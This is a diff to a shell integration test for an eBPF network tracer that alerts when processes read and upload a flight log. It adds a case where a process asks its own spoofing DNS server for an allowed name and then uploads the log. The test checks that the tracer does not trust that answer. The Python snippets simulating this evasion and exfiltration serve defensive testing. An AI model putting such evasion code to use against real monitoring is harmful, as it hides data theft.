@@ -21,6 +21,7 @@ P_AAAA=9302
 P_CNAME=9303
 P_BENIGN=9304
 P_PROBE6=9305
+P_SELF=9306
 PY=/usr/bin/python3
 MKMMDB=$FW_ROOT/tests/helpers/mkmmdb.py
 
@@ -33,6 +34,7 @@ fw_peer_listen tcp4 "$P_A"
 fw_peer_listen tcp6 "$P_AAAA"
 fw_peer_listen tcp4 "$P_CNAME"
 fw_peer_listen tcp4 "$P_BENIGN"
+fw_peer_listen tcp4 "$P_SELF"
 fw_peer_listen tcp6 "$P_PROBE6"
 fw_probe_network "$P_A" "$P_PROBE6"
 
@@ -87,6 +89,40 @@ s.sendall(data)
 s.close()
 EOF
 
+# A process that names its own destination: it asks a server of its own
+# (not a configured resolver) for allowed.example and gets an answer from
+# port 53 that says its destination is that name, then uploads the log
+cat >"$FW_TMP/selfnamed.py" <<'EOF'
+import os, socket, struct, sys
+pidfile, server, port, log = sys.argv[1:5]
+with open(pidfile, "w") as f:
+    f.write("%d\n" % os.getpid())
+qname = b"".join(bytes([len(p)]) + p for p in b"allowed.example".split(b".")) + b"\0"
+q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+q.settimeout(10)
+q.sendto(struct.pack(">6H", 0x4242, 0x0100, 1, 0, 0, 0) + qname +
+         struct.pack(">2H", 1, 1), (server, 53))
+q.recvfrom(512)
+with open(log, "rb") as f:
+    data = f.read()
+s = socket.create_connection((server, int(port)), timeout=10)
+s.sendall(data)
+s.close()
+EOF
+# ... and the server it asks, on the peer's second address
+cat >"$FW_TMP/ownserver.py" <<'EOF'
+import socket, struct, sys
+addr = sys.argv[1]
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.bind((addr, 53))
+open(sys.argv[2], "w").close()
+msg, peer = u.recvfrom(512)
+qid = msg[:2]
+question = msg[12:]
+answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(addr)
+u.sendto(qid + struct.pack(">5H", 0x8180, 1, 1, 0, 0) + question + answer, peer)
+EOF
+
 declare -A PID
 # client CASE RESOLV FAMILY NAME PORT LOG: run the client in the ground
 # station's network namespace with RESOLV as its /etc/resolv.conf
@@ -137,6 +173,7 @@ CG2=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
 # programs loaded from now on have larger ids than this
 BASE_ID=$(bpftool prog show -j 2>/dev/null | jq '[.[].id] | max // 0')
 fw_tracer_start live --no-default-rules --watch "$WATCH" --geoip "$GEO" \
+	--resolver "$FW_PEER_IP4" --resolver "$FW_PEER_IP6" \
 	--record "$TRACE" || fw_abort "tracer did not start"
 check "ready: the passive DNS hook is attached" contains \
 	'"cgroup_skb/ingress"' "$(fw_json | jq -c 'select(.event.action ==
@@ -148,6 +185,17 @@ OURS=$(bpftool cgroup show "$CG2" -j 2>/dev/null | jq -r --argjson base \
 check "fw_dns_ingress attached to the cgroup v2 root ($CG2), ingress" \
 	=~ '^[0-9]+$' "$OURS"
 
+# the self-named upload first: the real lookups below name its address
+nsenter --net="/run/netns/$FW_PEER" "$PY" "$FW_TMP/ownserver.py" \
+	"$FW_PEER_IP4B" "$FW_TMP/ownserver.up" </dev/null \
+	>"$FW_TMP/ownserver.log" 2>&1 &
+FW_BG_PIDS+=("$!")
+fw_wait_file "$FW_TMP/ownserver.up" 10 || fw_abort "the own DNS server did not start"
+fw_gs "$PY" "$FW_TMP/selfnamed.py" "$FW_TMP/selfnamed.pid" "$FW_PEER_IP4B" \
+	"$P_SELF" "$LOG" >"$FW_TMP/selfnamed.log" 2>&1
+check "self-named: asked its own server and sent (exit status)" -eq 0 "$?" ||
+	note "$(cat "$FW_TMP/selfnamed.log")"
+PID[selfnamed]=$(cat "$FW_TMP/selfnamed.pid" 2>/dev/null || echo none)
 client a4 "$FW_TMP/resolv4.conf" 4 upload.example "$P_A" "$LOG"
 client aaaa "$FW_TMP/resolv6.conf" 6 upload.example "$P_AAAA" "$LOG"
 client cname "$FW_TMP/resolv4.conf" 4 alias.example "$P_CNAME" "$LOG"
@@ -193,13 +241,21 @@ expect_named aaaa "$FW_PEER_IP6" upload.example NL
 expect_named cname "$FW_PEER_IP4B" alias.example CN
 fw_expect_no_alert "benign: resolved and sent, read no flight log" \
 	"${PID[benign]}"
-# every alert's first line already has the name (the answer came first)
+# an answer from a server that is not a configured resolver names
+# nothing, though it answered the process's own query from port 53
+expect_named selfnamed "$FW_PEER_IP4B" "" CN
+# every other alert's first line already has the name (the answer came
+# first)
 check "every alert line has destination.domain" == "" \
-	"$(fw_json | jq -c 'select(.event.kind == "alert" and
-		.destination.domain == null) | .message')"
+	"$(fw_json | jq -c --arg pid "${PID[selfnamed]}" 'select(.event.kind ==
+		"alert" and .destination.domain == null and
+		(.process.pid | tostring) != $pid) | .message')"
 stats=$(fw_stats)
 check "stats: DNS answers seen (4 lookups, one with A and AAAA)" -ge 4 \
 	"$(fw_get "$stats" .dns.messages)"
+check "stats: the self-named answer did not count" -ge 1 \
+	"$(fw_get "$stats" .dns.unmatched)"
+check "stats: the queries were seen" -ge 5 "$(fw_get "$stats" .dns.queries)"
 check "stats: no malformed DNS message" -eq 0 \
 	"$(fw_get "$stats" .dns.malformed)"
 check "stats: kernel DNS events counted" -ge 4 \
@@ -234,7 +290,9 @@ check "replay --config: exit status" -eq 0 "$?" ||
 	note "$(cat "$FW_TMP/replay-policy.err")"
 check "replay --config: a severity rule by country (CN: critical)" == \
 	"alias.example CN 99" "$(fw_json "$FW_TMP/replay-policy.out" |
-		jq -r 'select(.event.kind == "alert") | .destination as $d |
+		jq -r --arg self "${PID[selfnamed]}" 'select(.event.kind ==
+		"alert" and (.process.pid | tostring) != $self) |
+		.destination as $d |
 		"\($d.domain) \($d.geo.country_iso_code) \(.event.severity)"' |
 		sort -u)"
 check "replay --config: no alert to the allowed domain" == "" \
